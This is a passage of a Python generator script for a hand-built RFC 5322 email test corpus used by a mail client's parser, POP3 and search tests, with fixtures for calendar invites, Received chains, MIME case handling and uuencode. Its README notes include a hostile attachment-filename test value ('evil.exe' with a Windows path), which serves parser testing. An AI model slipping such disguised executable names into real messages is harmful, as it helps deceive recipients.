ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=OPT-PARTICIPANT;PARTSTAT=TENTATIVE;RSVP=TRUE;CN=Chen Wei;X-NUM-GUESTS=0:mailto:chen.wei@kestrel.example.net
X-MICROSOFT-CDO-OWNERAPPTID:-1894731542
CREATED:20250317T091443Z
DESCRIPTION:Weekly review of the Pigeon message list and reader pane.\\n\\nAgenda:\\n1. Thread view: collapse/expand\\n2. Attachment bar\\, hostile file names\\n3. Search-as-you-type\\n\\nJoin: https://meet.example.com/pgn-uxr-314
LAST-MODIFIED:20250317T091500Z
LOCATION:Room 3.14 / https://meet.example.com/pgn-uxr-314
SEQUENCE:0
STATUS:CONFIRMED
SUMMARY:Pigeon UX review
TRANSP:OPAQUE
BEGIN:VALARM
ACTION:DISPLAY
DESCRIPTION:This is an event reminder
TRIGGER:-P0DT0H10M0S
END:VALARM
END:VEVENT
END:VCALENDAR
"""


@fixture("062-calendar-invite.eml", "calendar,alternative,html,attachment,encoded-header,charset-utf-8",
         "Calendar invitation: mixed > [alternative > [text (format=flowed; delsp=yes), "
         "html, text/calendar; method=REQUEST], application/ics invite.ics (base64)]; "
         "recurring event with VTIMEZONE, folded ICS lines, UTF-8 CN.")
def _():
    ics = ics_fold(ICS.rstrip("\n")) + b"\n"
    ics_crlf = ics.replace(b"\n", b"\r\n")
    M = "000000000000c4e9f10630b7d2a1"
    A = "000000000000c4e9ef0630b7d29f"
    return wire("""\
Return-Path: <siobhan.nibhriain@kestrel.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from mail-calendar.example.com (mail-calendar.example.com [198.51.100.140])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z8YbE8dF3z9sWp
\tfor <pigeon-test@mail.example.org>; Mon, 17 Mar 2025 10:15:03 +0100 (CET)
MIME-Version: 1.0
Reply-To: @@NAME@@ <siobhan.nibhriain@kestrel.example.org>
Sender: Example Calendar <calendar-notification@calendar.example.com>
Message-ID: <calendar-3a7c2e91-5f4b-4d8e-b6a0-c1d2e3f4a5b6@calendar.example.com>
Date: Mon, 17 Mar 2025 09:15:00 +0000
Subject: Invitation: Pigeon UX review @ Weekly from 14:00 to 15:00 on Thursday
 4 times (CET) (pigeon-test@mail.example.org)
From: @@NAME@@ <siobhan.nibhriain@kestrel.example.org>
To: pigeon-test@mail.example.org, chen.wei@kestrel.example.net
Content-Type: multipart/mixed; boundary="@@M@@"

--@@M@@
Content-Type: multipart/alternative; boundary="@@A@@"

--@@A@@
Content-Type: text/plain; charset="UTF-8"; format=flowed; delsp=yes
Content-Transfer-Encoding: base64

""".replace("@@NAME@@", ew("Siobhán Ní Bhriain", "UTF-8", "Q")).replace("@@M@@", M)
       .replace("@@A@@", A),
        b64(("Pigeon UX review\n"
             "Weekly from 14:00 to 15:00 on Thursday 4 times\n"
             "Central European Time - Berlin\n\n"
             "Location\nRoom 3.14 / https://meet.example.com/pgn-uxr-314\n\n"
             "Organiser\nSiobhán Ní Bhriain\nsiobhan.nibhriain@kestrel.example.org\n\n"
             "Reply for pigeon-test@mail.example.org\n"
             "Yes: https://calendar.example.com/rsvp?e=3k9v&r=yes\n"
             "No: https://calendar.example.com/rsvp?e=3k9v&r=no\n"
             "Maybe: https://calendar.example.com/rsvp?e=3k9v&r=maybe\n\n"
             "Invitation from Example Calendar. You are receiving this email because you  \n"
             "are an attendee on the event.\n").replace("\n", "\r\n").encode("utf-8")), """\
--@@A@@
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

""".replace("@@A@@", A),
        qp("""\
<span itemscope itemtype="http://schema.org/InformAction"><span itemprop="object" itemscope itemtype="http://schema.org/Event"><meta itemprop="eventStatus" content="http://schema.org/EventScheduled"/></span></span><div style="font-family:Roboto,Helvetica,Arial,sans-serif"><h2 style="font-size:20px">Pigeon UX review</h2><table><tr><td><b>When</b></td><td>Weekly from 14:00 to 15:00 on Thursday 4 times (Central European Time - Berlin)</td></tr><tr><td><b>Where</b></td><td><a href="https://meet.example.com/pgn-uxr-314">Room 3.14 / meet.example.com/pgn-uxr-314</a></td></tr><tr><td><b>Organiser</b></td><td>Siobhán Ní Bhriain</td></tr></table><p><a href="https://calendar.example.com/rsvp?e=3k9v&amp;r=yes">Yes</a> &middot; <a href="https://calendar.example.com/rsvp?e=3k9v&amp;r=no">No</a> &middot; <a href="https://calendar.example.com/rsvp?e=3k9v&amp;r=maybe">Maybe</a></p></div>
"""), """\

--@@A@@
Content-Type: text/calendar; charset="UTF-8"; method=REQUEST
Content-Transfer-Encoding: 8bit

""".replace("@@A@@", A), ics, """\

--@@A@@--

--@@M@@
Content-Type: application/ics; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"
Content-Transfer-Encoding: base64

""".replace("@@M@@", M).replace("@@A@@", A), b64(ics_crlf), """\
--@@M@@--
""".replace("@@M@@", M))


@fixture("063-received-chain-hops.eml", "plain,charset-us-ascii",
         "Seven Received hops (MUA submission > internal relay > outbound > filtering "
         "service > MX > amavis loop > LMTP), IPv6 and IPv4, Received-SPF, "
         "Authentication-Results, X-Originating-IP; Date with (PST) comment.")
def _():
    return wire("""\
Return-Path: <h.okafor@corp.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from mx1.mail.example.org
\tby imap1.mail.example.org with LMTP
\tid 7Yq0HxV2yGeAqQAAdB6s0A
\t(envelope-from <h.okafor@corp.example.com>)
\tfor <pigeon-test@mail.example.org>; Wed, 05 Mar 2025 16:59:07 +0100
Received: from localhost (localhost [127.0.0.1])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8ZcF9eG4z9sWq
\tfor <pigeon-test@mail.example.org>; Wed,  5 Mar 2025 16:59:06 +0100 (CET)
Received: from mx1.mail.example.org ([127.0.0.1])
\tby localhost (mx1.mail.example.org [127.0.0.1]) (amavis, port 10024) with ESMTP
\tid Zk3vQ8xNpL2c for <pigeon-test@mail.example.org>;
\tWed,  5 Mar 2025 16:59:04 +0100 (CET)
Received: from relay-eu2.filter.example.net (relay-eu2.filter.example.net [203.0.113.50])
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))
\t(No client certificate requested)
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z8ZcD2kH1z9sWr
\tfor <pigeon-test@mail.example.org>; Wed,  5 Mar 2025 16:59:01 +0100 (CET)
Received: from outbound-2.corp.example.com (outbound-2.corp.example.com [IPv6:2001:db8:10::2])
\tby relay-eu2.filter.example.net with ESMTPS id 1741190339-0a1b2c3d4e5f
\t(version=TLSv1.2 cipher=ECDHE-RSA-AES256-GCM-SHA384 bits=256 verify=NO)
\tfor <pigeon-test@mail.example.org>; Wed, 05 Mar 2025 15:58:59 +0000 (UTC)
Received: from internal-relay.corp.example.com (internal-relay.corp.example.com [192.0.2.140])
\tby outbound-2.corp.example.com (8.17.2/8.17.2) with ESMTP id 525FwvAB012345
\tfor <pigeon-test@mail.example.org>; Wed, 5 Mar 2025 07:58:57 -0800
Received: from [192.0.2.130] (vpn-client-130.corp.example.com [192.0.2.130])
\t(Authenticated sender: h.okafor)
\tby internal-relay.corp.example.com (Postfix) with ESMTPSA id 9D8C7B6A5F
\tfor <pigeon-test@mail.example.org>; Wed,  5 Mar 2025 07:58:43 -0800 (PST)
X-Originating-IP: [192.0.2.130]
Received-SPF: Pass (mailfrom) identity=mailfrom; client-ip=203.0.113.50;
\thelo=relay-eu2.filter.example.net; envelope-from=h.okafor@corp.example.com;
\treceiver=pigeon-test@mail.example.org
Authentication-Results: mx1.mail.example.org;
\tdkim=pass (2048-bit key; unprotected) header.d=corp.example.com header.i=@corp.example.com header.b=Xk2pQ7vR;
\tspf=pass smtp.mailfrom=corp.example.com;
\tdmarc=pass (p=reject dis=none) header.from=corp.example.com
X-Virus-Scanned: Debian amavis at mx1.mail.example.org
X-Spam-Score: -2.1
""", dkim("corp.example.com", "selector1", "063", t=1741190323), """\
Date: Wed, 5 Mar 2025 07:58:41 -0800 (PST)
From: Halima Okafor <h.okafor@corp.example.com>
To: pigeon-test@mail.example.org
Subject: Which hop added the delay?
Message-ID: <1741190321.8812.okafor@corp.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit
X-Mailer: Evolution 3.50.3

Hi,

users say mail from us takes "ages" to arrive. Could you paste the
Received headers of this message into the trace tool? By my count there
are seven hops, and the clock on the filtering relay runs in UTC.

Thanks,
Halima
""")


def gzip_stored(name, data):
    deflate = stored_zlib(data)[2:-4]          # raw deflate stream only
    return (b"\x1f\x8b\x08\x08" + struct.pack("<I", 1742284800) + b"\x00\x03" +
            name.encode("ascii") + b"\x00" + deflate +
            struct.pack("<II", zlib.crc32(data) & 0xFFFFFFFF, len(data) & 0xFFFFFFFF))


@fixture("064-case-insensitive-mime-tokens.eml",
         "attachment,plain,charset-iso-8859-15",
         "Alpine-style upper-case MIME: lower/upper-case header names (MESSAGE-ID, "
         "mime-version, CONTENT-TYPE), MULTIPART/MIXED, BOUNDARY=, CHARSET=ISO-8859-15 "
         "(euro sign 0xA4), QUOTED-PRINTABLE and BASE64 tokens, gzip attachment; "
         "lower-case Date.")
def _():
    B = "8323329-1183741902-1742284800=:4711"
    gz = gzip_stored("pigeonrc", b"[account]\nhost = pop.mail.example.org\nport = 995\n"
                                 b"tls = true\nleave_on_server = 14d\n")
    text = "Hallo,\n\nanbei meine Konfiguration. Das Abo kostet übrigens 4 € im Monat.\n\nHannah\n"
    return wire("""\
Return-Path: <hannah.vogel@uni-kiel.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from mail.uni-kiel.example.org (mail.uni-kiel.example.org [192.0.2.160])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z8adG0fH5z9sWs
\tfor <pigeon-test@mail.example.org>; Tue, 18 Mar 2025 09:00:05 +0100 (CET)
date: tue, 18 mar 2025 08:00:00 +0000
from: Hannah Vogel <hannah.vogel@uni-kiel.example.org>
TO: pigeon-test@mail.example.org
SUBJECT: meine pigeonrc
MESSAGE-ID: <alpine.DEB.2.22.394.2503180800001.4711@hv-desktop>
user-agent: Alpine 2.26 (DEB 65 2022-10-07)
mime-version: 1.0
CONTENT-TYPE: MULTIPART/MIXED; BOUNDARY="@@B@@"

  This message is in MIME format.  The first part should be readable text,
  while the remaining parts are likely unreadable without MIME-aware tools.

--@@B@@
CONTENT-TYPE: TEXT/PLAIN; CHARSET=ISO-8859-15; FORMAT=flowed
CONTENT-TRANSFER-ENCODING: QUOTED-PRINTABLE

""".replace("@@B@@", B), qp(text.encode("iso8859_15")), """\

--@@B@@
CONTENT-TYPE: APPLICATION/x-gzip; NAME=pigeonrc.gz
CONTENT-TRANSFER-ENCODING: BASE64
CONTENT-ID: <alpine.DEB.2.22.394.2503180800002.4711@hv-desktop>
CONTENT-DESCRIPTION:\x20
CONTENT-DISPOSITION: ATTACHMENT; FILENAME=pigeonrc.gz

""".replace("@@B@@", B), b64(gz), """\

--@@B@@--
""".replace("@@B@@", B))


@fixture("065-uuencode-unknown-charset.eml", "attachment,malformed,plain",
         "Legacy encodings: a text part labelled charset=\"unknown-8bit\" with raw "
         "bytes, a part with Content-Transfer-Encoding: x-uuencode, and an inline "
         "'begin 644 ... end' uuencoded block inside a plain text body.")
def _():
    payload = b"Pigeon uuencode test\nline two\n\x00\x01\x02\xff binary tail\n"
    uu = "".join(binascii.b2a_uu(payload[i:i + 45], backtick=True).decode("ascii")
                 for i in range(0, len(payload), 45)) + "`\n"
    return wire("""\
Return-Path: <old.timer@retro.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from retro.example.net (retro.example.net [198.51.100.199])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8beH1gJ6z9sWt
\tfor <pigeon-test@mail.example.org>; Thu, 20 Mar 2025 09:45:12 +0100 (CET)
From: Old Timer <old.timer@retro.example.net>
To: pigeon-test@mail.example.org
Subject: Files the old-fashioned way
Date: Thu, 20 Mar 2025 08:45:09 +0000
Message-ID: <19990101000000.AA00001@retro.example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="retro-boundary-1999"
X-Mailer: Pine 4.64

--retro-boundary-1999
Content-Type: text/plain; charset="unknown-8bit"
Content-Transfer-Encoding: 8bit

""", "Grüße, the charset of this part is unknown; these bytes are Latin-1: ".encode("latin-1"),
        b"\xe4\xf6\xfc\xdf \x80\x9f\n\nAnd here is the file inline, uuencoded:\n\nbegin 644 inline.txt\n",
        uu, """\
end

--retro-boundary-1999
Content-Type: application/octet-stream; name="notes.bin"
Content-Disposition: attachment; filename="notes.bin"
Content-Transfer-Encoding: x-uuencode

begin 644 notes.bin
""", uu, """\
end

--retro-boundary-1999--
""")


# ---------------------------------------------------------------------------
# Driver

def eol_kind(data):
    crlf = data.count(b"\r\n")
    cr = data.count(b"\r") - crlf
    lf = data.count(b"\n") - crlf
    if cr == 0 and lf == 0:
        return "yes"
    if crlf == 0 and cr == 0:
        return "no"
    return "mixed"


README_HEAD = """\
# Pigeon test mail corpus

Hand-designed RFC 5322 messages used by the MIME summariser tests (GMime 3),
the POP3 fetch tests against a real Dovecot, and the full-text search tests.
Every person, organisation, address and text here is invented for this
project; domains are under example.com / example.org / example.net and IP
addresses come from the documentation ranges.

**Do not edit these files by hand.** They are generated, byte for byte, by
`tests/mail/make-corpus.py` (Python 3 stdlib only, deterministic):

    /usr/bin/python3 tests/mail/make-corpus.py        # rewrites this directory
    /usr/bin/python3 tests/mail/check-corpus.py tests/data/mail

`check-corpus.py` (meson test `mail-corpus`, suite `unit`) verifies that every
`.eml` file is listed in `MANIFEST.tsv` with the right SHA-256, size and
line-ending class, that the required tags and edge cases are present, that
Python's `email` parser can at least read each file, and that re-running the
generator reproduces the directory exactly.

Line endings matter: most files use CRLF as on the wire, some use bare LF,
one mixes CRLF/LF/CR. `.gitattributes` has `tests/data/** -text` and
`.editorconfig` unsets all whitespace rules here, so git and editors leave the
bytes alone. If a checksum test fails after a checkout, suspect line-ending
conversion first.

## MANIFEST.tsv

Tab-separated, one header row: `file`, `sha256`, `bytes`, `crlf` (`yes` =
only CRLF line ends, `no` = only bare LF, `mixed` = anything else), `tags`.
Tags come from a fixed vocabulary: plain, html, alternative, attachment,
nested, encoded-header, charset-<name> (lower-case MIME charset name),
thread, large, malformed, dot-lines, hostile-filename, list, signed,
encrypted, calendar, report, related.

## Things worth knowing

* Thread (032-037): root 032 <- 033 <- 035 <- 034 <- (missing message) <- 036
  <- 037. 034 is delivered *before* its parent 035. 036 replies to a message
  that is not in the corpus, so its References chain has a gap; 037 is a
  Fwd: carrying only References. 057 carries 100 References ids pointing
  at messages that are not in the corpus.
* Dates: standard (001), no weekday (009), two-digit year + EST (024),
  single-digit hour + comment (025), no seconds (029), -0000 (031),
  wrong weekday (058), lower-case (064), UT (055), folded over two lines
  (056), localised/unparseable (048), missing (047, 054).
* POP3 dot-stuffing: 005 and 045 have body lines that are just "." or start
  with "."; 045 ends with a line that is just "."; 046 has no final line
  terminator at all.
* Sizes: 038 is just over 5 MiB; 044 has a 20,000+ character line; 057 has a
  ~5,000 character References line.
* 052 has headers and no body (no blank line); 053 has an empty body; 054 has
  no headers.

## Parser behaviour observed when the corpus was made

With GMime 3.2.13 (`g_mime_parser_construct_message`, default options) and
Python 3.11 `email`; useful when writing expectations:

* 023, 030, 031: GMime 3.2.13 merges adjacent B-encoded words of the same
  charset before base64-decoding them, so everything after a word that ends
  in `=` padding is lost: 031's Subject decodes to "... Thanks 👩", 023's is
  cut after the second word, 030's to "Résum?". Python decodes all three in
  full. This is a known GMime bug (reported fixed upstream after 3.2.13, see
  djcb/mu#2461); tests asserting the full text will fail on 3.2.13 unless
  Pigeon works around it.
* 030: GMime decodes the unpadded `Sm9zw6kgUGFyZG8` as "José Par" (drops the
  incomplete last quantum); Python gives "José Pardo".
* 050, 051: GMime keeps reading headers and returns an empty body; Python
  flags MissingHeaderBodySeparatorDefect and keeps the text as body.
* 039, 040: both give a multipart with no sub-parts.
* 015: for `filename="C:\\Users\\x\\evil.exe"` (raw backslashes in a quoted string)
  both give "C:Usersxevil.exe"; the RFC 2231 variant keeps the backslashes.
* 016: GMime cuts the RFC 2231 name at the encoded %00.
* 041: Python reports two CloseBoundaryNotFoundDefects; GMime still returns
  the (truncated) PDF part.

## Files

| File | Tags | What it exercises |
|------|------|-------------------|
"""


def main(argv):
    here = os.path.dirname(os.path.abspath(__file__))
    out = os.path.normpath(os.path.join(here, "..", "data", "mail"))
    if len(argv) == 3 and argv[1] == "--out":
        out = argv[2]
    elif len(argv) != 1:
        sys.stderr.write("usage: make-corpus.py [--out DIR]\n")
        return 2
    os.makedirs(out, exist_ok=True)

    names = [f[0] for f in FIXTURES]
    assert names == sorted(names) and len(set(names)) == len(names), "fixture order"
    for i, n in enumerate(names, 1):
        assert n.startswith("%03d-" % i) and n.endswith(".eml"), n

    rows = ["file\tsha256\tbytes\tcrlf\ttags"]
    readme = [README_HEAD]
    for name, tags, desc, build in FIXTURES:
        data = build()
        assert data, name + " is empty"
        with open(os.path.join(out, name), "wb") as fp:
            fp.write(data)
        rows.append("%s\t%s\t%d\t%s\t%s" % (name, hashlib.sha256(data).hexdigest(),
                                            len(data), eol_kind(data), tags))
        readme.append("| `%s` | %s | %s |\n" % (name, tags.replace(",", ", "),
                                               desc.replace("|", "\\|")))
    for stale in sorted(os.listdir(out)):
        if stale.endswith(".eml") and stale not in names:
            os.remove(os.path.join(out, stale))
            print("removed stale %s" % stale)
    with open(os.path.join(out, "MANIFEST.tsv"), "w", encoding="utf-8", newline="\n") as fp:
        fp.write("\n".join(rows) + "\n")
    with open(os.path.join(out, "README.md"), "w", encoding="utf-8", newline="\n") as fp:
        fp.write("".join(readme))
    print("wrote %d messages to %s" % (len(FIXTURES), out))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
